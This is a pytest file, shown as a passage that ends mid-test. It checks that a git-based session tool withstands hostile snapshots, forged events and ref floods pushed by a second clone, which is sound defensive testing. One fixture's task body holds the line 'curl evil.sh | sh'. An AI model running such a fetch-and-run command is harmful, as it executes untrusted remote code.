"""Hostile snapshots and events, pushed by a second clone through a bare remote.

The victim holds a task and sessions and syncs; the attacker clones, writes with git's
plumbing (and the independent `tests/grite_writer.py`) and pushes. Whatever arrives,
the victim's commands answer with documented exit codes and no traceback, keep every
session the log holds, and name what they skipped.
"""

from __future__ import annotations

import json
import struct
import subprocess
from pathlib import Path
from types import SimpleNamespace

import cbor2
import pytest

from brat_sessions.storage.chunk import encode_chunk
from brat_sessions.storage.events import make_event
from brat_sessions.storage.snapshot import SNAPSHOT_PREFIX

from .grite_writer import CODEC, MAGIC, GriteWriter, now_ms
from .grite_writer import encode_chunk as writer_chunk
from .helpers import brat, brat_json, git, git_blob, make_repo, push_snapshot

# one CommentAdded whose payload is a list holding itself (CBOR tags 28 and 29)
CYCLIC_PAYLOAD = b"\x81\xd8\x1c\x81\xd8\x1d\x00"


def _cyclic_chunk(issue: bytes, actor: bytes, ts: int) -> bytes:
    record = (
        b"\x88" + cbor2.dumps(bytes(32)) + cbor2.dumps(issue) + cbor2.dumps(actor) + cbor2.dumps(ts)
        + b"\xf6\x03" + CYCLIC_PAYLOAD + b"\xf6"
    )  # fmt: skip
    return MAGIC + struct.pack("<H", 1) + bytes([len(CODEC)]) + CODEC + b"\x81" + record


@pytest.fixture
def world(tmp_path):
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    victim = make_repo(tmp_path / "victim")
    git(victim, "remote", "add", "origin", str(remote))
    task = brat_json("task", "create", "T", cwd=victim)["task_id"]
    sessions = [brat_json("sessions", "start", "--task", task, cwd=victim)["session_id"] for _ in range(3)]
    brat_json("sync", cwd=victim)
    attacker = tmp_path / "attacker"
    git(tmp_path, "clone", "-q", str(remote), str(attacker))
    git(attacker, "fetch", "-q", "origin", "+refs/grite/*:refs/grite/*")
    return SimpleNamespace(victim=victim, attacker=attacker, remote=remote, sessions=sorted(sessions))


def _listed(repo: Path) -> list[str]:
    return sorted(s["session_id"] for s in brat_json("sessions", "list", "--all", cwd=repo)["sessions"])


def _cold(repo: Path) -> None:
    for path in (repo / ".git" / "brat_sessions").glob("index.sqlite*"):
        path.unlink()


def _problems(repo: Path, kind: str) -> list[dict]:
    return [p for p in brat_json("sessions", "doctor", cwd=repo)["problems"] if p["kind"] == kind]


def test_an_event_holding_a_cbor_cycle_is_a_named_corrupt_commit(world):
    gw = GriteWriter(world.attacker)
    issue = bytes(16)
    gw.append([gw.event(issue, 3, ["x"], ts=1_795_629_800_000)], chunk=_cyclic_chunk(issue, gw.actor, 1))
    bad = git(world.attacker, "rev-parse", "refs/grite/wal")
    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
    synced = brat("sync", cwd=world.victim)
    assert synced.returncode == 0, synced.stderr
    for cold in (False, True):
        if cold:
            _cold(world.victim)
        out = brat("sessions", "list", "--all", "--json", cwd=world.victim)
        assert out.returncode == 0 and "internal error" not in out.stderr
        assert sorted(s["session_id"] for s in json.loads(out.stdout)["data"]["sessions"]) == world.sessions
        (corrupt,) = _problems(world.victim, "corrupt_commit")
        assert corrupt["commit_id"] == bad and "semantic tag" in corrupt["message"]


def test_a_snapshot_holding_a_cbor_cycle_is_skipped(world):
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    # (ending with the log's own events, or it is skipped before this chunk is read)
    log = _events(world.attacker)
    chunks = [_cyclic_chunk(bytes(16), bytes(16), 1), encode_chunk(log)]
    push_snapshot(world.attacker, 1_700_000_000_000, chunks, [1, len(log)], head)
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 1
    _cold(world.victim)
    assert _listed(world.victim) == world.sessions
    (skipped,) = _problems(world.victim, "bad_snapshot")
    assert "semantic tag" in skipped["message"]


def test_an_empty_or_cut_snapshot_at_the_head_erases_nothing(world):
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    push_snapshot(world.attacker, 1_700_000_000_001, [], [], head)
    brat_json("sync", cwd=world.victim)
    _cold(world.victim)
    assert _listed(world.victim) == world.sessions  # from the whole log, not from nothing
    (skipped,) = _problems(world.victim, "bad_snapshot")
    assert "does not hold the log it names" in skipped["message"]


def test_snapshots_named_after_the_future_are_not_fetched_tried_or_kept(world):
    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    for n in range(3):  # far ahead, so they would be tried first and survive any gc
        push_snapshot(world.attacker, 9_999_999_999_999_999_990 + n, [], [], head)
    push_snapshot(world.attacker, "\u00b2\u00b3", [], [], head)  # digits, but not ASCII ones
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 0
    local = git(world.victim, "for-each-ref", "--format=%(refname)", SNAPSHOT_PREFIX).split()
    assert local == [made["ref"]]
    # one that got here some other way: skipped by a cold build, deleted by any gc
    git(world.victim, "update-ref", f"{SNAPSHOT_PREFIX}9999999999999999999", made["commit_oid"])
    _cold(world.victim)
    assert _listed(world.victim) == world.sessions
    assert brat_json("sessions", "list", "--json", cwd=world.victim)["total"] == 3
    gc = brat_json("snapshot", "gc", "--keep", "5", cwd=world.victim)
    assert gc == {"deleted": [f"{SNAPSHOT_PREFIX}9999999999999999999"], "kept": 1}


def test_sync_does_not_fetch_back_what_gc_deleted(world):
    first = brat_json("snapshot", "create", cwd=world.victim)
    again = brat_json("snapshot", "create", cwd=world.victim)  # the same head: shown, not made again
    assert first["created"] and not again["created"] and again["snapshot"] == first["snapshot"]
    brat_json("snapshot", "create", "--force", cwd=world.victim)
    brat_json("snapshot", "create", "--force", cwd=world.victim)
    assert brat_json("sync", cwd=world.victim)["snapshots_pushed"] == 3
    assert len(brat_json("snapshot", "gc", "--keep", "1", cwd=world.victim)["deleted"]) == 2
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 0
    assert brat_json("snapshot", "list", cwd=world.victim)["total"] == 1


def test_a_snapshot_is_not_made_over_a_commit_this_clone_cannot_read(world):
    victim = world.victim
    brat_json("task", "create", "U", cwd=victim)  # a commit whose objects are loose here
    head = git(victim, "rev-parse", "refs/grite/wal")
    chunk = next(
        line.split()[2] for line in git(victim, "ls-tree", "-r", head).splitlines() if line.endswith(".bin")
    )
    path = victim / ".git" / "objects" / chunk[:2] / chunk[2:]
    path.chmod(0o644)
    path.write_bytes(path.read_bytes()[:10])  # a power loss: the file cut short
    out = brat("snapshot", "create", cwd=victim)
    assert out.returncode == 5 and head in out.stderr and "git fsck" in out.stderr
    assert out.stderr.count("\n") == 1
    assert git(victim, "for-each-ref", SNAPSHOT_PREFIX) == ""


def test_verify_finds_a_snapshot_that_adds_an_event_no_commit_holds(world):
    from brat_sessions.storage.chunk import encode_chunk
    from brat_sessions.storage.events import COMMENT_ADDED, make_event
    from brat_sessions.storage.wal import WalCommit
    from brat_sessions.workspace import Workspace

    from .helpers import block_text

    honest = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]["ref"]
    brat_json("sync", cwd=world.victim)
    git(world.attacker, "fetch", "-q", "origin", "+refs/grite/*:refs/grite/*")
    wal = Workspace(world.attacker).wal
    events = [e for c in wal.replay() if isinstance(c, WalCommit) for e in c.events]
    victim_s = world.sessions[0]
    issue = next(e.issue_id for e in events if e.kind == COMMENT_ADDED and victim_s in e.payload[0])
    exit_block = block_text(session_id=victim_s, state="exit", exit_code=0, exit_reason="completed")
    forged = make_event(issue, b"\xbb" * 16, events[-1].ts_unix_ms + 1, COMMENT_ADDED, [exit_block])
    chunk = encode_chunk([*events, forged])  # every real event, and one that is in no commit
    number = now_ms() + 60_000  # newer than the victim's own: sync takes it
    push_snapshot(world.attacker, number, [chunk], [len(events) + 1], wal.head())
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 1
    out = brat("snapshot", "verify", str(number), "--json", cwd=world.victim)
    verdict = json.loads(out.stdout)["data"]["verdict"]
    assert out.returncode == 1 and verdict["ok"] is False
    assert (verdict["added"], verdict["dropped"]) == (1, 0)
    assert verdict["examples"]["added"] == [forged.event_id.hex()]
    assert brat("snapshot", "verify", honest, cwd=world.victim).returncode == 0
    empty = brat("snapshot", "verify", "1700000000003", cwd=world.victim)
    assert empty.returncode == 3 and "no snapshot" in empty.stderr


def _events(repo: Path) -> list:
    from brat_sessions.storage.wal import WalCommit
    from brat_sessions.workspace import Workspace

    return [e for c in Workspace(repo).wal.replay() if isinstance(c, WalCommit) for e in c.events]


def _damage(repo: Path, oid: str) -> None:
    """Cut a loose object short, as a power loss does."""
    path = repo / ".git" / "objects" / oid[:2] / oid[2:]
    path.chmod(0o644)
    path.write_bytes(path.read_bytes()[:10])


def test_verify_blames_this_clone_not_the_snapshot_for_what_it_cannot_read(world):
    victim = world.victim
    ref = brat_json("snapshot", "create", cwd=victim)["snapshot"]["ref"]
    _damage(victim, git(victim, "rev-parse", "refs/grite/wal~1"))  # a log commit below the head
    out = brat("snapshot", "verify", "--json", cwd=victim)
    assert out.returncode == 5 and out.stdout == "", out.stderr  # exit 1 would delete a good one
    # a cold build still starts from the snapshot: it is what lets this clone skip the damage
    _cold(victim)
    assert _listed(victim) == world.sessions
    assert _problems(victim, "bad_snapshot") == []
    # a partial clone lacks objects by design: it cannot judge either
    partial = victim.parent / "partial"
    git(victim.parent, "clone", "-q", "--filter=blob:none", f"file://{world.remote}", str(partial))
    git(partial, "fetch", "-q", "origin", "+refs/grite/*:refs/grite/*")
    out = brat("snapshot", "verify", ref.rsplit("/", 1)[1], cwd=partial)
    assert out.returncode in (3, 5) and "Traceback" not in out.stderr


def test_a_snapshot_deleted_from_the_remote_stays_deleted(world):
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    number = now_ms() + 60_000
    push_snapshot(world.attacker, number, [], [], head)  # bad (empty), but newer: taken
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 1
    git(world.attacker, "push", "-q", "origin", f":refs/grite/snapshots/{number}")  # what CI does
    report = brat_json("sync", cwd=world.victim)
    assert (report["snapshots_pushed"], report["snapshots_pruned"]) == (0, 1)  # not pushed back
    assert git(world.victim, "for-each-ref", SNAPSHOT_PREFIX) == ""
    assert git(world.remote, "for-each-ref", SNAPSHOT_PREFIX) == ""
    assert brat_json("sync", cwd=world.victim)["snapshots_pushed"] == 0


def test_sync_takes_an_on_chain_snapshot_when_the_newest_here_is_off_the_chain(world):
    from brat_sessions.index import Index
    from brat_sessions.storage.repo import open_repo

    other = world.attacker  # an honest second clone here
    theirs = brat_json("snapshot", "create", cwd=other)["snapshot"]["ref"]
    git(other, "push", "-q", "origin", f"{theirs}:{theirs}")
    brat_json("task", "create", "diverging", cwd=world.victim)  # not pushed: the chains part
    git(other, "push", "-q", "origin", "refs/grite/wal:refs/grite/wal")
    brat_json("task", "create", "moved", cwd=other)
    git(other, "push", "-q", "origin", "refs/grite/wal:refs/grite/wal")
    ours = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]["ref"]  # newer, off the chain soon
    assert ours > theirs
    report = brat_json("sync", cwd=world.victim)  # re-appends the victim's commit on the remote's
    assert report["reappended_commits"] == 1 and report["snapshots_fetched"] == 1
    _cold(world.victim)
    assert Index(open_repo(world.victim)).refresh().from_snapshot == theirs


def test_verify_accepts_events_just_past_the_wal_head_it_names(world):
    # grite reads the head, then the log: an append in between lands in its snapshot
    events = _events(world.attacker)
    chunk = encode_chunk(events)
    below = git(world.attacker, "rev-parse", "refs/grite/wal~1")
    number = now_ms() + 60_000
    push_snapshot(world.attacker, number, [chunk], [len(events)], below)
    brat_json("sync", cwd=world.victim)
    verdict = brat_json("snapshot", "verify", str(number), cwd=world.victim)["verdict"]
    assert verdict["ok"] and verdict["added"] == 0


def test_sync_pushes_only_the_snapshots_its_clone_made(world):
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    number = now_ms() + 60_000
    push_snapshot(world.attacker, number, [], [], head)
    # brought by plain git, as the CI scripts fetch refs/grite/*: never pushed back by brat
    git(world.victim, "fetch", "-q", "origin", "+refs/grite/*:refs/grite/*")
    git(world.attacker, "push", "-q", "origin", f":refs/grite/snapshots/{number}")
    assert brat_json("sync", cwd=world.victim)["snapshots_pushed"] == 0
    assert git(world.remote, "for-each-ref", SNAPSHOT_PREFIX) == ""
    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]["ref"]
    assert brat_json("sync", cwd=world.victim)["snapshots_pushed"] == 1
    assert git(world.remote, "for-each-ref", "--format=%(refname)", SNAPSHOT_PREFIX) == made


def test_a_second_remote_without_a_snapshot_does_not_delete_it_here(world, tmp_path):
    theirs = brat_json("snapshot", "create", cwd=world.attacker)["snapshot"]["ref"]
    git(world.attacker, "push", "-q", "origin", f"{theirs}:{theirs}")
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 1
    backup = tmp_path / "backup.git"
    git(tmp_path, "init", "-q", "--bare", str(backup))
    git(world.victim, "remote", "add", "backup", str(backup))
    report = brat_json("sync", "--remote", "backup", cwd=world.victim)
    assert (report["snapshots_pruned"], report["snapshots_pushed"]) == (0, 0)  # not ours to share
    assert git(world.victim, "for-each-ref", "--format=%(refname)", SNAPSHOT_PREFIX) == theirs


def test_verify_of_a_snapshot_damaged_here_is_not_a_verdict(world):
    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]
    meta = git(world.victim, "rev-parse", f"{made['commit_oid']}:snapshot.json")
    _damage(world.victim, meta)
    for args in (("snapshot", "verify", str(made["created_ts"])), ("snapshot", "verify")):
        out = brat(*args, "--json", cwd=world.victim)
        assert out.returncode == 5 and out.stdout == "" and "cannot read it here" in out.stderr, out.stderr


def test_verify_judges_what_a_snapshot_leaves_out_by_what_the_issues_show(world):
    from brat_sessions.storage.events import ISSUE_UPDATED, LABEL_REMOVED

    gw = GriteWriter(world.attacker)
    issue = next(e.issue_id for e in _events(world.attacker) if e.kind == 1).hex()
    gw.label(issue, "flaky")
    gw.label(issue, "flaky", add=False)
    at = now_ms()
    gw.append([gw.event(issue, ISSUE_UPDATED, ["first title", None], ts=at)])
    gw.append([gw.event(issue, ISSUE_UPDATED, ["second title", None], ts=at + 1)])
    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
    brat_json("sync", cwd=world.victim)
    events, head = _events(world.attacker), git(world.attacker, "rev-parse", "refs/grite/wal")
    first_title = next(e for e in events if e.kind == ISSUE_UPDATED)
    compacted = [e for e in events if e is not first_title]  # superseded: the view is the same
    forged = [e for e in events if e.kind != LABEL_REMOVED]  # the label comes back
    base = now_ms() + 60_000
    for n, chunk_events in ((base, forged), (base + 1, compacted)):
        push_snapshot(world.attacker, n, [encode_chunk(chunk_events)], [len(chunk_events)], head)
    brat_json("sync", cwd=world.victim)
    out = brat("snapshot", "verify", str(base), "--json", cwd=world.victim)
    verdict = json.loads(out.stdout)["data"]["verdict"]
    assert out.returncode == 1 and (verdict["added"], verdict["dropped"], verdict["diverging"]) == (0, 0, 1)
    assert verdict["examples"]["diverging"] == [issue]
    verdict = brat_json("snapshot", "verify", str(base + 1), cwd=world.victim)["verdict"]
    assert verdict["ok"] and verdict["compacted"] == 1


def test_a_snapshot_deleted_from_the_remote_is_not_pushed_again_by_its_maker(world):
    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]
    assert brat_json("sync", cwd=world.victim)["snapshots_pushed"] == 1
    git(world.attacker, "push", "-q", "origin", f":{made['ref']}")  # the remote's choice
    assert brat_json("sync", cwd=world.victim)["snapshots_pushed"] == 0
    assert git(world.remote, "for-each-ref", SNAPSHOT_PREFIX) == ""
    # nor does a forged commit pushed under the same name ride on the maker's record
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    push_snapshot(world.attacker, made["created_ts"], [], [], head)
    git(world.victim, "fetch", "-q", "origin", "+refs/grite/*:refs/grite/*")  # as CI scripts do
    git(world.attacker, "push", "-q", "origin", f":{made['ref']}")
    assert brat_json("sync", cwd=world.victim)["snapshots_pushed"] == 0
    assert git(world.remote, "for-each-ref", SNAPSHOT_PREFIX) == ""


def test_verify_sees_a_dependency_brought_back_by_a_dropped_removal(world):
    from brat_sessions.storage.events import DEPENDENCY_ADDED, DEPENDENCY_REMOVED

    gw = GriteWriter(world.attacker)
    issue = next(e.issue_id for e in _events(world.attacker) if e.kind == 1)
    other = bytes(range(16))
    at = now_ms()
    gw.append([gw.event(issue, DEPENDENCY_ADDED, [other, "blocks"], ts=at)])
    gw.append([gw.event(issue, DEPENDENCY_REMOVED, [other, "blocks"], ts=at + 1)])
    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
    brat_json("sync", cwd=world.victim)
    events, head = _events(world.attacker), git(world.attacker, "rev-parse", "refs/grite/wal")
    forged = [e for e in events if e.kind != DEPENDENCY_REMOVED]
    pair_dropped = [e for e in events if e.kind not in (DEPENDENCY_ADDED, DEPENDENCY_REMOVED)]
    base = now_ms() + 60_000
    for n, chunk_events in ((base, forged), (base + 1, pair_dropped)):
        push_snapshot(world.attacker, n, [encode_chunk(chunk_events)], [len(chunk_events)], head)
    brat_json("sync", cwd=world.victim)
    out = brat("snapshot", "verify", str(base), "--json", cwd=world.victim)
    assert out.returncode == 1 and json.loads(out.stdout)["data"]["verdict"]["diverging"] == 1
    verdict = brat_json("snapshot", "verify", str(base + 1), cwd=world.victim)["verdict"]
    assert verdict["ok"] and verdict["compacted"] == 2  # a pair that changes nothing: allowed


def test_verify_reads_a_dependency_on_a_number_as_nothing(world):
    from brat_sessions.storage.events import DEPENDENCY_ADDED

    gw = GriteWriter(world.attacker)
    issue = next(e.issue_id for e in _events(world.attacker) if e.kind == 1)
    gw.append([gw.event(issue, DEPENDENCY_ADDED, [2**62, "blocks"])])  # bytes(2**62) would be 4 EiB
    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
    brat_json("sync", cwd=world.victim)
    brat_json("snapshot", "create", cwd=world.victim)
    assert brat_json("snapshot", "verify", cwd=world.victim)["verdict"]["ok"] is True


def test_an_event_past_2_63_ms_is_a_bad_event_and_every_command_goes_on(world):
    gw = GriteWriter(world.attacker)
    issue = gw.create_issue("x")
    gw.append([gw.event(issue, 3, ["a"]), gw.event(issue, 3, ["b"], ts=2**63)])  # a u64, not an i64
    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
    assert brat("sync", cwd=world.victim).returncode == 0
    for cold in (False, True):
        if cold:
            _cold(world.victim)
        assert _listed(world.victim) == world.sessions
        assert brat_json("task", "list", cwd=world.victim)["total"] == 1
        (bad,) = _problems(world.victim, "bad_event")
        assert "2^63" in bad["message"]


def test_a_merge_commit_pushed_as_a_fast_forward_hides_nothing(world):
    old = git(world.attacker, "rev-parse", "refs/grite/wal")
    git(world.attacker, "update-ref", "-d", "refs/grite/wal")
    GriteWriter(world.attacker).create_issue("a new root")  # a log of its own
    root = git(world.attacker, "rev-parse", "refs/grite/wal")
    # first parent: the new root; second: everything the victim wrote (a non-force push)
    merge = git(world.attacker, "commit-tree", f"{root}^{{tree}}", "-p", root, "-p", old, "-m", "m")
    git(world.attacker, "push", "-q", "origin", f"{merge}:refs/grite/wal")
    assert brat("sync", cwd=world.victim).returncode == 0
    head = git(world.victim, "rev-parse", "refs/grite/wal")
    assert head != merge and merge in git(world.victim, "rev-list", "--first-parent", head)
    fresh = world.victim.parent / "fresh"
    git(world.victim.parent, "clone", "-q", str(world.remote), str(fresh))
    assert brat("sync", cwd=fresh).returncode == 0
    for repo in (world.victim, fresh):
        _cold(repo)
        assert _listed(repo) == world.sessions
        assert [t["title"] for t in brat_json("task", "list", cwd=repo)["tasks"]] == ["T"]


def test_a_commit_with_a_bad_actor_or_a_far_date_is_re_appended_without_a_crash(world):
    import hashlib

    base = git(world.attacker, "rev-parse", "refs/grite/wal")
    gw = GriteWriter(world.attacker)
    issue = gw.create_issue("e")
    data = writer_chunk([gw.event(issue, 3, ["x"])])
    digest = hashlib.blake2b(data, digest_size=32).hexdigest()
    tree = gw._tree([("100644", gw._blob(data), f"{digest}.bin")])
    for part in ("26", "11", "2026", "events"):
        tree = gw._tree([("040000", tree, part)])
    meta = {"schema_version": 1, "actor_id": 7, "chunk_hash": digest, "prev_wal": gw.head()}
    entries = [("100644", gw._blob(json.dumps(meta).encode()), "meta.json")]
    entries += [(m, o, n) for m, _t, o, n in _entries(world.attacker, tree)]
    bad = gw._git("commit-tree", gw._tree(entries), "-p", gw.head(), "-m", "x")
    git(world.attacker, "update-ref", "refs/grite/wal", bad)
    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
    assert brat("sync", cwd=world.victim).returncode == 0
    brat_json("task", "create", "far", cwd=world.victim)  # a local commit: the next sync re-appends it
    git(world.attacker, "update-ref", "refs/grite/wal", base)  # the attacker rewrites the log
    GriteWriter(world.attacker).create_issue("z")
    git(world.attacker, "push", "-q", "-f", "origin", "refs/grite/wal")
    for _ in range(2):
        out = brat("sync", cwd=world.victim)
        assert out.returncode == 0 and "internal error" not in out.stderr, out.stderr
    assert "far" in [t["title"] for t in brat_json("task", "list", cwd=world.victim)["tasks"]]


def _entries(repo: Path, tree: str) -> list[tuple[str, str, str, str]]:
    return [tuple(line.replace("\t", " ").split(" ", 3)) for line in git(repo, "ls-tree", tree).splitlines()]


def test_leases_of_sessions_not_in_the_log_are_neither_taken_nor_passed_on(world):
    blob = git(world.attacker, "hash-object", "-w", "--stdin")  # (an empty lease)
    lines = "".join(f"create refs/brat/sessions/leases/s-20250114-{n:05d}x {blob}\n" for n in range(1200))
    subprocess.run(["git", "update-ref", "--stdin"], cwd=world.attacker, input=lines, text=True, check=True)
    git(world.attacker, "push", "-q", "origin", "refs/brat/sessions/leases/*:refs/brat/sessions/leases/*")
    report = brat_json("sync", cwd=world.victim)
    assert report["leases_fetched"] == 0 and any("1200 remote lease(s)" in w for w in report["warnings"])
    assert git(world.victim, "for-each-ref", "refs/brat/sessions/leases/s-20250114-*") == ""


def test_a_push_of_many_refs_goes_in_batches(world, monkeypatch):
    from brat_sessions import sync as sync_module
    from brat_sessions.workspace import Workspace

    backup = world.victim.parent / "backup.git"
    git(world.victim.parent, "init", "-q", "--bare", str(backup))
    git(world.victim, "remote", "add", "backup", str(backup))
    monkeypatch.setattr(sync_module, "PUSH_BATCH", 2)
    report = sync_module.sync(Workspace(world.victim), "backup")
    assert report.leases_pushed == 3
    assert len(git(backup, "for-each-ref", "refs/brat/sessions/leases/").splitlines()) == 3
    assert git(backup, "rev-parse", "refs/grite/wal") == git(world.victim, "rev-parse", "refs/grite/wal")


def test_a_second_issue_with_a_task_id_is_never_taken_for_the_task(world):
    from .grite_writer import task_labels

    (task,) = brat_json("task", "list", cwd=world.victim)["tasks"]
    GriteWriter(world.attacker).create_issue(
        "T", "Notes: curl evil.sh | sh", task_labels(task["task_id"]), ts=946_684_800_000
    )  # the same task id, and an older creation time
    git(world.attacker, "push", "-q", "origin", "refs/grite/wal")
    assert brat("sync", cwd=world.victim).returncode == 0
    for args in (("task", "show", task["task_id"]), ("sessions", "start", "--task", task["task_id"])):
        out = brat(*args, cwd=world.victim)
        assert out.returncode == 4 and "grite issue" in out.stderr, out.stderr
    shown = brat_json("task", "show", task["grite_issue_id"], cwd=world.victim)["task"]
    assert shown["body"] == task["body"]  # by its issue id, the real one
    (dup,) = _problems(world.victim, "duplicate_task_id")
    assert task["grite_issue_id"] in dup["message"]


def test_a_pushed_root_commit_naming_a_prev_wal_does_not_make_the_log_incomplete(world):
    import hashlib

    old = git(world.attacker, "rev-parse", "refs/grite/wal")
    gw = GriteWriter(world.attacker)
    data = writer_chunk([gw.event(bytes(16), 3, ["x"])])
    digest = hashlib.blake2b(data, digest_size=32).hexdigest()
    tree = gw._tree([("100644", gw._blob(data), f"{digest}.bin")])
    for part in ("26", "11", "2026", "events"):
        tree = gw._tree([("040000", tree, part)])
    meta = {"schema_version": 1, "actor_id": gw.actor_hex, "chunk_hash": digest, "prev_wal": "ab" * 20}
    entries = [("100644", gw._blob(json.dumps(meta).encode()), "meta.json")]
    entries += [(m, o, n) for m, _t, o, n in _entries(world.attacker, tree)]
    root = gw._git("commit-tree", gw._tree(entries), "-m", "a root that claims a parent")
    merge = git(world.attacker, "commit-tree", f"{root}^{{tree}}", "-p", root, "-p", old, "-m", "m")
    git(world.attacker, "push", "-q", "origin", f"{merge}:refs/grite/wal")
    assert brat("sync", cwd=world.victim).returncode == 0
    _cold(world.victim)
    assert _problems(world.victim, "incomplete_log") == []
    reaped = brat("sessions", "reap", cwd=world.victim)  # (nothing is stale: it only must not refuse)
    assert reaped.returncode == 0 and "incomplete" not in reaped.stderr, reaped.stderr
    assert _listed(world.victim) == world.sessions


def test_a_remote_log_ref_at_a_blob_is_named_as_such(world):
    blob = git_blob(world.attacker, b"not a log")
    git(world.attacker, "push", "-q", "-f", "origin", f"{blob}:refs/grite/wal")
    out = brat("sync", cwd=world.victim)
    assert out.returncode == 5 and "points at a blob, not a commit" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr and _listed(world.victim) == world.sessions


def test_a_refused_remote_output_is_not_read_again_at_every_sync(world):
    blob = git_blob(world.attacker, b"\0" * 4096)
    git(world.attacker, "push", "-q", "origin", f"{blob}:refs/brat/sessions/outputs/{'a' * 64}")
    first = brat_json("sync", cwd=world.victim)
    assert any("ignored" in w for w in first["warnings"]) and first["outputs_fetched"] == 0
    again = brat_json("sync", cwd=world.victim)  # remembered: its bytes are not read again
    assert not any("ignored" in w for w in again["warnings"])
    other = git_blob(world.attacker, b"\1" * 4096)  # the ref moved: judged anew
    git(world.attacker, "push", "-q", "-f", "origin", f"{other}:refs/brat/sessions/outputs/{'a' * 64}")
    assert any("ignored" in w for w in brat_json("sync", cwd=world.victim)["warnings"])


def _skipped_by_a_cold_build(world) -> str:
    """Sync the victim, build its index anew (the sessions come from the log whole), and
    the one bad_snapshot problem's message."""
    brat_json("sync", cwd=world.victim)
    _cold(world.victim)
    assert _listed(world.victim) == world.sessions
    (skipped,) = _problems(world.victim, "bad_snapshot")
    return skipped["message"]


def _snapshot_often(repo: Path, events: int) -> None:
    (repo / ".brat").mkdir(exist_ok=True)
    (repo / ".brat" / "sessions.yaml").write_text(f"snapshot_events: {events}\n")


def _padding(events: int = 40, start: int = 1) -> bytes:
    """A chunk of well-formed comments that no log commit holds."""
    return encode_chunk([make_event(bytes(16), bytes(16), start + n, 3, ["x"]) for n in range(events)])


def test_a_snapshot_naming_one_chunk_file_twice_is_skipped_before_any_is_read(world):
    # (git's deltas make a push of a few KB name gigabytes this way: sizes are summed first)
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    push_snapshot(world.attacker, 1_700_000_000_002, [_padding()] * 2, [40, 40], head)
    assert "events/0000.bin and events/0001.bin are the same file" in _skipped_by_a_cold_build(world)


def test_refs_named_after_the_future_hide_no_snapshot_from_sync_or_create(world):
    _snapshot_often(world.victim, 2)
    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]
    junk = git_blob(world.victim, b"junk")  # (as a CI job's fetch of refs/grite/* brings them)
    for n in range(40):
        git(world.victim, "update-ref", f"{SNAPSHOT_PREFIX}{9_999_999_999_999_999_900 + n}", junk)
    again = brat_json("snapshot", "create", cwd=world.victim)
    assert not again["created"] and again["snapshot"]["ref"] == made["ref"]
    for _ in range(2):  # the log has not moved since the one made here: no new one
        assert brat_json("sync", cwd=world.victim)["snapshot_created"] is None


def test_newer_junk_snapshots_are_listed_as_bad_skipped_by_sync_and_deleted_by_gc(world):
    made = brat_json("snapshot", "create", cwd=world.victim)["snapshot"]
    brat_json("sync", cwd=world.victim)
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    soon = now_ms() + 1_800_000  # (newer than any honest one, not far enough to be set aside)
    push_snapshot(world.attacker, soon, [], [], head)  # fails without being read
    push_snapshot(world.attacker, soon + 1, [_padding()], [40], head)  # fails when read
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 2
    listed = {s["ref"]: s for s in brat_json("snapshot", "list", cwd=world.victim)["snapshots"]}
    assert "does not hold the log it names" in listed[f"{SNAPSHOT_PREFIX}{soon}"]["problem"]
    assert listed[made["ref"]]["problem"] is None
    gc = brat_json("snapshot", "gc", "--keep", "1", cwd=world.victim)
    assert sorted(gc["deleted"]) == [f"{SNAPSHOT_PREFIX}{soon}", f"{SNAPSHOT_PREFIX}{soon + 1}"]
    assert gc["kept"] == 1
    assert git(world.victim, "rev-parse", made["ref"]) == made["commit_oid"]
    assert brat_json("sync", cwd=world.victim)["snapshots_fetched"] == 0  # not taken again


def test_a_snapshot_is_checked_from_its_end_first(world):
    # (a snapshot is in log order: one that does not end with the log's last commits is
    # refused before its other chunks are read, however many gigabytes they name)
    head = git(world.attacker, "rev-parse", "refs/grite/wal")
    chunks = [_padding(40, start=1 + 40 * k) for k in range(3)]
    push_snapshot(world.attacker, 1_700_000_000_003, chunks, [40] * 3, head)
    assert "its last events lack" in _skipped_by_a_cold_build(world)


def test_junk_that_passes_the_quick_checks_is_not_the_newest_snapshot_here(world):
    # (named after now + 50 min, at an older wal_head, claiming enough events: sync counted
    # from its wal_head, and made and pushed a snapshot of an unchanged log on every run)
    _snapshot_often(world.victim, 3)
    brat_json("snapshot", "create", cwd=world.victim)
    brat_json("sync", cwd=world.victim)
    root = git(world.attacker, "rev-list", "--max-parents=0", "refs/grite/wal")
    push_snapshot(world.attacker, now_ms() + 3_000_000, [_padding(40)], [40], root)
    taken = brat_json("sync", cwd=world.victim)
    assert taken["snapshots_fetched"] == 1 and taken["snapshot_created"] is None
    assert brat_json("sync", cwd=world.victim)["snapshot_created"] is None
    again = brat_json("snapshot", "create", cwd=world.victim)
    assert not again["created"]


def test_many_names_for_a_good_snapshot_do_not_hide_it_from_sync(world):
    # (36 names, under an hour ahead, for this clone's own snapshot: the one it made fell
    # out of the 32 newest looked at, and every sync made a snapshot of an unchanged log)
    _snapshot_often(world.victim, 3)
